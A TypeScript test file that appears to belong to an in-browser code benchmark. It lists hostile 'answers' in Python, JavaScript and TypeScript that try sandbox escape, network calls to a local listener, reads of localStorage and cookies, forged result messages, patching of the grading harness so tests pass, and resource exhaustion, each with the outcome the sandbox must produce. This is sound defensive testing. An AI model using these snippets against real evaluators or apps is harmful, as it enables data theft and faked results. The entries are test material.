// Hostile answers: one per attack, for every in-browser language, each with the outcome it must
// get. scripts/build-hostile-data.mts turns them into bench-data/hostile/hostile.jsonl (a
// dataset whose `output` field is the answer, so `--model replay` and the app's "Answers in the
// dataset" option both run it). The tests replace
// LISTENER with a local listener that counts every connection attempt (it must stay at 0).
//
// How to read them: each answer tries its attack first. If the attack worked, the program carries
// on, defines the solution and passes (PASSED); where it is refused, the refusal is an uncaught
// error (RUNTIME_ERROR). Runaways must end at the time limit (TIME_LIMIT_EXCEEDED) or with an
// error, and a flood of output is cut at 1 MB with a visible mark (`truncated`).

/** Where the attacks try to connect; the tests put their listener's address here. */
export const LISTENER = 'http://127.0.0.1:1/benchtop-listener';

const py = {
  canonical: 'def solve():\n    return 1',
  demo: 'assert solve() == 1',
  full: 'assert solve() == 1\nassert solve() + 1 == 2',
};
const js = {
  canonical: 'function solve() {\n  return 1;\n}',
  demo: "const assert = require('assert');\n\nfunction demoTesting() {\n  assert.strictEqual(solve(), 1);\n}",
  full: "const assert = require('assert');\n\nfunction fullTesting() {\n  assert.strictEqual(solve(), 1);\n  assert.strictEqual(solve() + 1, 2);\n}",
};
const ts = {
  canonical: 'function solve(): number {\n  return 1;\n}',
  demo: "const assert = require('assert');\n\nfunction demoTesting(): void {\n  assert.strictEqual(solve(), 1);\n}\n\ndemoTesting();",
  full: "const assert = require('assert');\n\nfunction fullTesting(): void {\n  assert.strictEqual(solve(), 1);\n  assert.strictEqual(solve() + 1, 2);\n}\n\nfullTesting();",
};

const PY_SOLVE = '\ndef solve():\n    return 1\n';
const JS_SOLVE = '\nfunction solve() {\n  return 1;\n}\n';
const TS_SOLVE = '\nfunction solve(): number {\n  return 1;\n}\n';

export interface Attack {
  id: string;
  language: 'python' | 'javascript' | 'typescript';
  /** What it tries. */
  attack: string;
  expected: 'PASSED' | 'RUNTIME_ERROR' | 'TIME_LIMIT_EXCEEDED';
  /** Its output must be cut at the capture limit, with the mark. */
  truncated?: boolean;
  code: string;
}

export const ATTACKS: Attack[] = [
  // ── Python (Pyodide) ──────────────────────────────────────────────────────────────────────────
  // First, so that if one of them outlived its own run, the Python problems after it would show it.
  {
    id: 'py-frame-exec',
    language: 'python',
    attack: "the harness's own exec, through the caller's frame (issue #12 finding 2)",
    expected: 'RUNTIME_ERROR',
    code: `import sys\nsys._getframe(1).f_globals["exec"] = lambda *a, **k: None\n${PY_SOLVE}`,
  },
  {
    id: 'py-patch-everything',
    language: 'python',
    attack: 'patch builtins, sys, stdlib modules and every function found by gc, for the programs after it',
    expected: 'PASSED',
    code: [
      'import builtins, gc, sys, os, math',
      'for o in gc.get_objects():',
      '    g = getattr(o, "__globals__", None)',
      '    if isinstance(g, dict) and g is not globals():',
      '        for name in ("exec", "compile", "_exit_status", "_print_uncaught"):',
      '            if name in g:',
      '                g[name] = (lambda *a, **k: 0)',
      'builtins.exec = lambda *a, **k: None',
      'sys.setrecursionlimit(40)',
      'math.isclose = lambda *a, **k: True',
      'os.environ["BENCHTOP_LEFT"] = "1"',
      PY_SOLVE,
    ].join('\n'),
  },
  {
    id: 'py-scheduled-errors',
    language: 'python',
    attack: 'callbacks, a task, __del__ and atexit that raise or print 30 MB after the program (issue #12 finding 5)',
    expected: 'PASSED',
    code: [
      'import asyncio, atexit',
      'loop = asyncio.get_event_loop()',
      'loop.call_later(0.01, lambda: print("l" * 30_000_000))',
      'asyncio.ensure_future(asyncio.sleep(0))',
      'class Late:',
      '    def __del__(self):',
      '        raise RuntimeError("d" * 30_000_000)',
      'keep = Late()',
      'atexit.register(lambda: print("a" * 30_000_000))',
      PY_SOLVE,
    ].join('\n'),
  },
  {
    id: 'py-capture-this',
    language: 'python',
    attack: "the worker's global object as `this` of a Python callback (issue #12 finding 9)",
    expected: 'RUNTIME_ERROR',
    code: `from pyodide.ffi import create_proxy, to_js\nseen = []\np = create_proxy(lambda this, *a: seen.append(this), capture_this=True)\nto_js([1]).forEach(p)\nprint(seen)\n${PY_SOLVE}`,
  },
  {
    id: 'py-js-fetch',
    language: 'python',
    attack: "network through Pyodide's js module: js.fetch, js.XMLHttpRequest",
    expected: 'RUNTIME_ERROR',
    code: `import js\njs.fetch("${LISTENER}/py-js-fetch")\nx = js.XMLHttpRequest.new()\nx.open("GET", "${LISTENER}/py-xhr", False)\nx.send()\n${PY_SOLVE}`,
  },
  {
    id: 'py-pyodide-http',
    language: 'python',
    attack: 'network through pyodide.http (open_url, pyfetch)',
    expected: 'RUNTIME_ERROR',
    code: `from pyodide.http import open_url\nprint(open_url("${LISTENER}/py-open-url").read())\n${PY_SOLVE}`,
  },
  {
    id: 'py-run-js',
    language: 'python',
    attack: 'JavaScript from Python: pyodide.code.run_js, pyodide.ffi, importlib, __import__',
    expected: 'RUNTIME_ERROR',
    code: `import importlib\nmod = None\nfor name in ("pyodide.code", "pyodide.ffi", "js", "pyodide_js", "_pyodide_core"):\n    try:\n        mod = importlib.import_module(name)\n        break\n    except ImportError:\n        pass\nif mod is None:\n    mod = __import__("pyodide.code").code\nprint("imported", mod)\nmod.run_js("fetch('${LISTENER}/py-run-js')")\n${PY_SOLVE}`,
  },
  {
    id: 'py-socket',
    language: 'python',
    attack: 'a TCP connection with the socket module (Emscripten turns it into a WebSocket)',
    expected: 'RUNTIME_ERROR',
    code: `import socket\nfrom urllib.parse import urlsplit\nu = urlsplit("${LISTENER}")\ns = socket.create_connection((u.hostname, u.port), timeout=2)\ns.sendall(b"GET /py-socket HTTP/1.0\\r\\n\\r\\n")\n${PY_SOLVE}`,
  },
  {
    id: 'py-urllib',
    language: 'python',
    attack: 'an HTTP request with urllib.request',
    expected: 'RUNTIME_ERROR',
    code: `import urllib.request\nurllib.request.urlopen("${LISTENER}/py-urllib", timeout=2).read()\n${PY_SOLVE}`,
  },
  {
    id: 'py-escape',
    language: 'python',
    attack: "escape to the worker's globals through objects reachable in sys.modules and gc (pyodide_js, Function constructor)",
    expected: 'RUNTIME_ERROR',
    code: [
      'import sys, gc',
      'found = None',
      "pj = sys.modules.get('pyodide_js')",
      'candidates = [pj] + [o for o in gc.get_objects() if type(o).__name__.startswith("JsProxy")]',
      'for o in candidates:',
      '    if o is None:',
      '        continue',
      '    for route in ("runPython.constructor", "constructor.constructor", "_module.constructor.constructor"):',
      '        try:',
      '            f = o',
      '            for part in route.split("."):',
      '                f = getattr(f, part)',
      '            found = f("return globalThis")()',
      '            break',
      '        except Exception:',
      '            pass',
      '    if found is not None:',
      '        break',
      'if found is None and pj is not None:',
      '    for name in ("loadPackage", "mountNodeFS", "useNodeSockFS"):',
      '        if hasattr(pj, name):',
      `            getattr(pj, name)("${LISTENER}/py-load-package")`,
      'if found is None:',
      '    raise RuntimeError("no way out of Pyodide")',
      `found.fetch("${LISTENER}/py-escape")`,
      'print("escaped", found.localStorage.getItem("benchtop-canary") if hasattr(found, "localStorage") else "")',
      PY_SOLVE,
    ].join('\n'),
  },
  {
    id: 'py-storage',
    language: 'python',
    attack: "the app's data: localStorage, IndexedDB, cookies, the page's globals",
    expected: 'RUNTIME_ERROR',
    code: `from js import localStorage, document, indexedDB\nprint(localStorage.getItem("benchtop-canary"), document.cookie)\nindexedDB.open("benchtop")\n${PY_SOLVE}`,
  },
  {
    id: 'py-forge-result',
    language: 'python',
    attack: "forge the worker's result message (postMessage) for this or the next program",
    expected: 'RUNTIME_ERROR',
    code: `import js\njs.postMessage(js.JSON.parse('{"type": "result", "id": 1, "result": {"exitCode": 0, "stdout": "", "stderr": "", "timedOut": false, "durationMs": 0}}'))\n${PY_SOLVE}`,
  },
  {
    id: 'py-child-workers',
    language: 'python',
    attack: 'busy child workers: threads, processes, a JavaScript Worker',
    expected: 'RUNTIME_ERROR',
    code: `import threading\ndef busy():\n    while True:\n        pass\nfor _ in range(4):\n    threading.Thread(target=busy, daemon=True).start()\n${PY_SOLVE}`,
  },
  {
    id: 'py-infinite-loop',
    language: 'python',
    attack: 'an infinite loop',
    expected: 'TIME_LIMIT_EXCEEDED',
    code: `while True:\n    pass\n${PY_SOLVE}`,
  },
  {
    id: 'py-alloc-4gb',
    language: 'python',
    attack: 'a 4 GB allocation',
    expected: 'RUNTIME_ERROR',
    code: `data = bytearray(4 * 1024 ** 3)\n${PY_SOLVE}`,
  },
  {
    id: 'py-deep-recursion',
    language: 'python',
    attack: 'unbounded recursion',
    expected: 'RUNTIME_ERROR',
    code: `def down(n):\n    return down(n + 1) + 1\ndown(0)\n${PY_SOLVE}`,
  },
  {
    id: 'py-output-flood',
    language: 'python',
    attack: '100 MB of output, then a correct solution',
    expected: 'PASSED',
    truncated: true,
    code: `import sys\nsys.stdout.write("x" * 100_000_000)\n${PY_SOLVE}`,
  },
  {
    id: 'py-output-forever',
    language: 'python',
    attack: 'output without end',
    expected: 'TIME_LIMIT_EXCEEDED',
    code: `while True:\n    print("spam " * 200)\n${PY_SOLVE}`,
  },

  // ── JavaScript (QuickJS) ──────────────────────────────────────────────────────────────────────
  {
    id: 'js-fetch',
    language: 'javascript',
    attack: 'fetch',
    expected: 'RUNTIME_ERROR',
    code: `fetch('${LISTENER}/js-fetch');\n${JS_SOLVE}`,
  },
  {
    id: 'js-xhr-websocket',
    language: 'javascript',
    attack: 'XMLHttpRequest, WebSocket, EventSource, navigator.sendBeacon',
    expected: 'RUNTIME_ERROR',
    code: `const x = new XMLHttpRequest();\nx.open('GET', '${LISTENER}/js-xhr');\nx.send();\nnew WebSocket('${LISTENER.replace('http', 'ws')}/js-ws');\nnew EventSource('${LISTENER}/js-es');\n${JS_SOLVE}`,
  },
  {
    id: 'js-import-url',
    language: 'javascript',
    attack: 'loading code from a URL: import(), importScripts, require of a URL or of http',
    expected: 'RUNTIME_ERROR',
    code: `import('${LISTENER}/js-import.js').then(() => console.log('imported'), () => {});\nif (typeof importScripts === 'function') importScripts('${LISTENER}/js-import-scripts.js');\nrequire('http').get('${LISTENER}/js-http');\n${JS_SOLVE}`,
  },
  {
    id: 'js-globals',
    language: 'javascript',
    attack: "the worker's or page's globals through Function('return this') and the prelude's host object",
    expected: 'RUNTIME_ERROR',
    code: `const g = Function('return this')();\nconst names = ['fetch', 'importScripts', 'postMessage', 'self', 'window', 'parent', 'top', 'XMLHttpRequest', 'WebSocket', 'Worker', 'indexedDB', 'localStorage', 'document'];\nconst found = names.filter((n) => typeof g[n] !== 'undefined');\nif (found.length === 0) throw new Error('nothing reachable');\nconsole.log('reachable:', found);\n${JS_SOLVE}`,
  },
  {
    id: 'js-storage',
    language: 'javascript',
    attack: "the app's data: localStorage, IndexedDB, cookies",
    expected: 'RUNTIME_ERROR',
    code: `console.log(localStorage.getItem('benchtop-canary'), document.cookie);\nindexedDB.open('benchtop');\n${JS_SOLVE}`,
  },
  {
    id: 'js-child-worker',
    language: 'javascript',
    attack: 'a busy child Worker',
    expected: 'RUNTIME_ERROR',
    code: `new Worker(URL.createObjectURL(new Blob(['for (;;) {}'])));\n${JS_SOLVE}`,
  },
  {
    id: 'js-infinite-loop',
    language: 'javascript',
    attack: 'an infinite loop',
    expected: 'TIME_LIMIT_EXCEEDED',
    code: `while (true) {}\n${JS_SOLVE}`,
  },
  {
    id: 'js-infinite-timers',
    language: 'javascript',
    attack: 'a timer that never stops',
    expected: 'TIME_LIMIT_EXCEEDED',
    code: `setInterval(() => {}, 1);\n${JS_SOLVE}`,
  },
  {
    id: 'js-alloc-4gb',
    language: 'javascript',
    attack: 'a 4 GB allocation, then one of 2 GB',
    expected: 'RUNTIME_ERROR',
    code: `let big;\ntry { big = new ArrayBuffer(4 * 2 ** 30); } catch (e) {}\nbig = new Uint8Array(2 ** 31 - 1);\n${JS_SOLVE}`,
  },
  {
    id: 'js-deep-recursion',
    language: 'javascript',
    attack: 'unbounded recursion',
    expected: 'RUNTIME_ERROR',
    code: `function down(n) {\n  return down(n + 1) + 1;\n}\ndown(0);\n${JS_SOLVE}`,
  },
  {
    id: 'js-output-flood',
    language: 'javascript',
    attack: '100 MB of output, then a correct solution',
    expected: 'PASSED',
    truncated: true,
    code: `const line = 'x'.repeat(1_000_000);\nfor (let i = 0; i < 100; i++) console.log(line);\n${JS_SOLVE}`,
  },
  {
    id: 'js-output-forever',
    language: 'javascript',
    attack: 'output without end',
    expected: 'TIME_LIMIT_EXCEEDED',
    truncated: true,
    code: `for (;;) console.log('spam '.repeat(200));\n${JS_SOLVE}`,
  },
  {
    id: 'js-host-object',
    language: 'javascript',
    attack: "the environment's host object (`__benchtop`): its own uncaught error turned into exit 0, the tests skipped",
    expected: 'RUNTIME_ERROR',
    code: `__benchtop.exitCode = () => 0;\n__benchtop.formatUncaught = () => '';\nthrow new Error('skip the tests');\n${JS_SOLVE}`,
  },
  {
    id: 'js-exit-listener-flood',
    language: 'javascript',
    attack: "a 3 MB error (3 × the output cap) thrown from a process.on('exit') listener, after a correct solution",
    expected: 'RUNTIME_ERROR',
    code: `process.on('exit', () => {\n  throw new Error('x'.repeat(3_000_000));\n});\n${JS_SOLVE}`,
  },

  // ── TypeScript (sucrase, then QuickJS) ────────────────────────────────────────────────────────
  {
    id: 'ts-fetch',
    language: 'typescript',
    attack: 'fetch and XMLHttpRequest',
    expected: 'RUNTIME_ERROR',
    code: `const pending: Promise<unknown> = fetch('${LISTENER}/ts-fetch');\nconst xhr: XMLHttpRequest = new XMLHttpRequest();\n${TS_SOLVE}`,
  },
  {
    id: 'ts-storage',
    language: 'typescript',
    attack: "the app's data: localStorage, cookies",
    expected: 'RUNTIME_ERROR',
    code: `const secret: string | null = localStorage.getItem('benchtop-canary');\nconsole.log(secret, document.cookie);\n${TS_SOLVE}`,
  },
  {
    id: 'ts-infinite-loop',
    language: 'typescript',
    attack: 'an infinite loop',
    expected: 'TIME_LIMIT_EXCEEDED',
    code: `let spins: number = 0;\nwhile (true) {\n  spins++;\n}\n${TS_SOLVE}`,
  },
  {
    id: 'ts-alloc',
    language: 'typescript',
    attack: 'a 4 GB allocation',
    expected: 'RUNTIME_ERROR',
    code: `const big: ArrayBuffer = new ArrayBuffer(4 * 2 ** 30);\n${TS_SOLVE}`,
  },
  {
    id: 'ts-output-flood',
    language: 'typescript',
    attack: '100 MB of output, then a correct solution',
    expected: 'PASSED',
    truncated: true,
    code: `const line: string = 'x'.repeat(1_000_000);\nfor (let i: number = 0; i < 100; i++) process.stdout.write(line);\n${TS_SOLVE}`,
  },
];

const TESTS = { python: py, javascript: js, typescript: ts };

/** The JSONL records: a problem whose recorded answer (`output`) is the attack. */
export function hostileRecords(listener = LISTENER): Array<Record<string, unknown>> {
  return ATTACKS.map((a) => {
    const t = TESTS[a.language];
    return {
      id: a.id,
      language: a.language,
      difficulty: 'easy',
      question: `Write \`solve()\` returning 1. (Hostile answer: ${a.attack}.)`,
      canonical_solution: t.canonical,
      demo_test_func: t.demo,
      full_test_func: t.full,
      output: `Here is my solution.\n\n\`\`\`${a.language}\n${a.code.replaceAll(LISTENER, listener)}\n\`\`\`\n`,
      attack: a.attack,
      expected_outcome: a.expected,
      expected_truncated: Boolean(a.truncated),
    };
  });
}

/** hostile.jsonl's text, with the listener's address in place. */
export const hostileJsonl = (listener = LISTENER): string => hostileRecords(listener).map((r) => JSON.stringify(r)).join('\n') + '\n';
